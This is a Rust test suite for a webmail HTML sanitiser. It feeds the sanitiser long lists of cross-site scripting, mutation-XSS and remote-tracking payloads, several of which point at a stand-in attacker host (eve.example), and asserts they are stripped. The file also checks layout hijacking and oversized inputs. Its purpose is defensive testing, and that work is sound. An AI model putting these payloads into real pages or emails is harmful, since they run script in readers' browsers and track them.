//! What has broken other webmails, class by class.

use super::{body, checker, same};
use crate::mail::html::{Options, sanitise, text_document, visible_text};

/// Cleaned, checked, and settled: cleaning the result again gives the same.
fn clean(html: &str) -> String {
    let result = sanitise(html, &same());
    checker::check(&result.document);
    assert_eq!(sanitise(&result.document, &same()).document, result.document, "{html}");
    let _text = visible_text(html);
    body(&result.document).to_owned()
}

#[test]
fn scripts_and_handlers_go() {
    for html in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//eve.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img/src='x'/onerror=alert(1)//",
        "<body onload=alert(1)>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"\u{1}javascript:alert(1)\">x</a>",
        "<a href=' data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "<a href='https://x' ping='https://eve.example'>x</a>",
        "<details open ontoggle=alert(1)>x</details>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='data:text/html,x'></object><embed src=x>",
        "<meta http-equiv=refresh content='0;url=//eve.example'>",
        "<base href=//eve.example><link rel=stylesheet href=//eve.example>",
        "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</form>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<p style='width:expression(alert(1))'>x</p>",
        "<table background='javascript:alert(1)'><tr><td>x</table>",
        "<math><a xlink:href=javascript:alert(1)>x</a></math>",
        "<a xlink:href=javascript:alert(1)>x</a>",
    ] {
        let out = clean(html);
        for never in ["script", "alert", "eve.example"] {
            assert!(!out.contains(never), "{html}: {out}");
        }
    }
}

#[test]
fn drawings_and_formulas_go_whole() {
    for html in [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<svg xmlns='\"><img src=x onerror=alert(1)>'></svg>",
        "<svg><feImage href='https://eve.example/x'/></svg>",
        "<svg><a><set attributeName=href to=javascript:alert(1) by=x /></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<svg><title><script>alert(1)</script></title></svg>",
    ] {
        let out = clean(&format!("<p>Hi</p>{html}"));
        assert!(out.starts_with("<body><p>Hi</p>"), "{html}: {out}");
        assert!(!out.contains("alert") || !out.contains("<img"), "{html}: {out}");
    }
}

#[test]
fn markup_that_changes_when_read_again_settles() {
    for html in [
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\">",
        "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<listing>\n\n<img src=x onerror=alert(1)></listing>",
        "<template><img src=x onerror=alert(1)></template>",
        "<template><tr><td>x</template>",
        "<select><template><img src=x onerror=alert(1)></template></select>",
        "<select><style></select><img src=x onerror=alert(1)></style></select>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
        "<table><a href=https://x><tr><td><a href=https://y>x</a></td></tr></a></table>",
        "<table><form><table><form>x",
        "<a><table><td><a><table></table><a></tr><a></table><b>X</b>C<a>Y",
        "<p><button><div>x</div></button></p>",
        "<p><object><div>x</object>",
        "<p><marquee><p>x</marquee>",
        "<h1><button><h2>x</h2></button></h1>",
        "<b><i><p></b></i><table><b><td><i></table>x",
        "<form><div></form><form><table></div><form>",
        "<math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<svg><p><style><!--</style><img src=x onerror=alert(1)>-->",
        "<style><!--</style><img src=x onerror=alert(1)>--></style>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--!><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml-stylesheet href=javascript:alert(1)?><img src=x>",
        "<pre>\n\n\nx</pre><pre>&#10;y</pre>",
        "x&#13;y&#0;z&#x80;",
        "<p title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;'>x",
        "<img alt=\"<x' onerror=alert(1) \" src=x>",
        "<ruby><rt>x<rp>y<rtc>z<rb>w</ruby>",
        "<li><ul><li>x</ul><li>y<dd>z<dt>w",
        "<nobr>a<nobr>b<nobr>c",
        "<table><caption><p>x<tr><td>y<table><tr><th>z",
        "<table><colgroup><col><div>x</div><col></table>",
        "<frameset><frame src=javascript:alert(1)></frameset>x",
        "<body><frameset onload=alert(1)>",
        "<table><tbody><svg><tr><td>x",
        "<center><center><p><center>x</p></center>",
    ] {
        let out = clean(html);
        let as_text = out.replace("&lt;img", "").replace("&quot;&gt;&lt;", "");
        assert!(!as_text.contains("<img src=\"x\"") || !as_text.contains(" onerror="), "{html}: {out}");
    }
}

#[test]
fn nothing_is_asked_for() {
    for html in [
        "<img src=https://eve.example/1>",
        "<img src='ht\ntps://eve.example/1'>",
        "<img src=' //eve.example/1'>",
        "<img src=\\\\eve.example\\1>",
        "<img srcset='https://eve.example/1 2x'>",
        "<img lowsrc=https://eve.example/1 dynsrc=https://eve.example/2>",
        "<picture><source srcset=https://eve.example/1><img src=https://eve.example/2></picture>",
        "<video poster=https://eve.example/1 src=https://eve.example/2><source src=https://eve.example/3></video>",
        "<audio src=https://eve.example/1 autoplay></audio>",
        "<input type=image src=https://eve.example/1>",
        "<body background=https://eve.example/1>",
        "<table background=https://eve.example/1><tr><td background=https://eve.example/2>x</table>",
        "<link rel=dns-prefetch href=//eve.example><link rel=preconnect href=//eve.example>",
        "<style>@import 'https://eve.example/1';</style>",
        "<style>@font-face{font-family:x;src:url(https://eve.example/1)}p{font-family:x}</style><p>x",
        "<style>p{background:\\75\\72\\6c(https://eve.example/1)}</style><p>x",
        "<style>p{--x:url(https://eve.example/1);background:var(--x)}</style><p>x",
        "<style>p::before{content:url(https://eve.example/1)}</style><p>x",
        "<style>p{background:image-set('https://eve.example/1' 1x)}</style><p>x",
        "<style>input[value^=a]{background:url(https://eve.example/a)}</style><p>x",
        "<p style=\"background:url('https://eve.example/1')\">x",
        "<p style='list-style-image:url(https://eve.example/1)'>x",
        "<p style='border-image:url(https://eve.example/1)'>x",
        "<p style='cursor:url(https://eve.example/1),auto'>x",
        "<p style='filter:url(https://eve.example/1#x)'>x",
        "<p style='mask:url(https://eve.example/1)'>x",
        "<p style='background:url(/\\5c/eve.example/)'>x",
        "<object data=https://eve.example/1></object><embed src=https://eve.example/1>",
        "<iframe src=https://eve.example/1></iframe>",
        "<svg><image href=https://eve.example/1 /></svg>",
        "<track src=https://eve.example/1><bgsound src=https://eve.example/1>",
        "<blockquote cite=https://eve.example/1>x</blockquote><q cite=https://eve.example/1>x</q>",
        "<html manifest=https://eve.example/1><head profile=https://eve.example/1>",
        "<img src=x longdesc=https://eve.example/1 usemap=#m><map name=m><area href=https://eve.example/1></map>",
        "<portal src=https://eve.example/1></portal>",
        "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://eve.example/1\"]}]}</script>",
    ] {
        let document = sanitise(html, &same()).document;
        checker::check(&document);
        assert!(!document.contains("eve.example"), "{html}: {document}");
    }
}

#[test]
fn nothing_leaves_its_place_or_plays_the_page() {
    for html in [
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
        "<style>body>*{position:absolute!important;z-index:9}</style><p>x",
        "<div style='margin:-9999px 0 0 -10px;transform:translate(0,-500px)'>x</div>",
        "<label for=x><input id=x></label>",
        "<a name=login id=login>x</a><img name=cookie>",
        "<div data-tabster='{}' aria-owns=x accesskey=q tabindex=1 contenteditable autofocus>x</div>",
        "<div popover id=x></div><button popovertarget=x>x</button>",
        "<div slot=x part=y is=z itemprop=w>x</div>",
        "<div class='mk-nonsense btn modal'>x</div>",
    ] {
        let out = clean(html);
        for never in [
            "position",
            "z-index",
            "transform",
            "-9999",
            " id=",
            " name=",
            "data-",
            "tabindex",
            "popover",
            "\"mk-",
            " for=",
        ] {
            assert!(!out.contains(never), "{html}: {out}");
        }
    }
}

#[test]
fn plain_text_cannot_become_markup() {
    for text in [
        "<script>alert(1)</script>",
        "https://x.example/\"onmouseover=alert(1)//",
        "http://x.example/<script>alert(1)</script>",
        "[1]: https://x.example/##link##'\"><img src=x onerror=alert(1)>",
        "mailto:<img src=x onerror=alert(1)>",
        "> <b>quoted</b>\n",
        "https://x.example/\u{202e}moc",
        "&lt;script&gt;",
    ] {
        let document = text_document(text, &same()).document;
        checker::check(&document);
        assert!(
            !document.contains("<script") && !document.contains("<img") && !document.contains("<b>"),
            "{document}"
        );
        assert!(
            visible_text(&document)
                .text
                .contains(text.trim_start_matches("> ").split(['<', ' ']).next().unwrap())
        );
    }
}

#[test]
fn what_is_huge_ends_soon() {
    let many = |piece: &str, count: usize| piece.repeat(count);
    let mut attributes = String::from("<p ");
    for number in 0..100_000 {
        attributes.push_str(&format!("a{number} "));
    }
    attributes.push_str("style=color:red>Hello");
    let cases = [
        many("<div>", 33333),
        many("<b>", 25000),
        many("<font size=1>x<p>", 8333),
        many("<table><tr><td>", 8333),
        many("<a href=https://x.example/><div>", 5000),
        many("</div><div>", 8333),
        many("<table>x", 8333),
        many("<p>", 16666),
        many("<!-- > ", 8333),
        many("<style>a{", 4166),
        many("<blockquote>x", 8333),
        many("<ul><li>", 8333),
        many("<svg>", 8333),
        many("<svg><desc>", 4166),
        many("<select><option>", 8333),
        many("<x-y", 8333),
        many("<x-y>", 8333),
        many("&amp", 25000),
        format!("<style>{}</style>{}", many("a b c d e f g{color:red}", 1666), many("<a><b><i>", 1666)),
        format!("<style>{}</style>{}", many("*{color:red}", 1_000), many("<i>x</i>", 1666)),
        format!("<p style='{}'>x", many("color:red;", 2_000)),
        format!("<p style='width:{}'>x", many("calc(", 5_000)),
        format!("<style>{}", many("@media screen{", 4166)),
        format!("<style>p{{color:{}", many("(", 8333)),
        attributes,
    ];
    for html in &cases {
        let result = sanitise(html, &Options::default());
        checker::check(&result.document);
        let _text = visible_text(html);
    }
}

#[test]
fn a_deep_message_keeps_its_words() {
    let html = format!("{}deep{}", "<div>".repeat(5_000), "</div>".repeat(5_000));
    let result = sanitise(&html, &same());
    assert!(result.document.contains("deep") && !result.shown_as_text);
    assert_eq!(visible_text(&html).text, "deep\n");
}
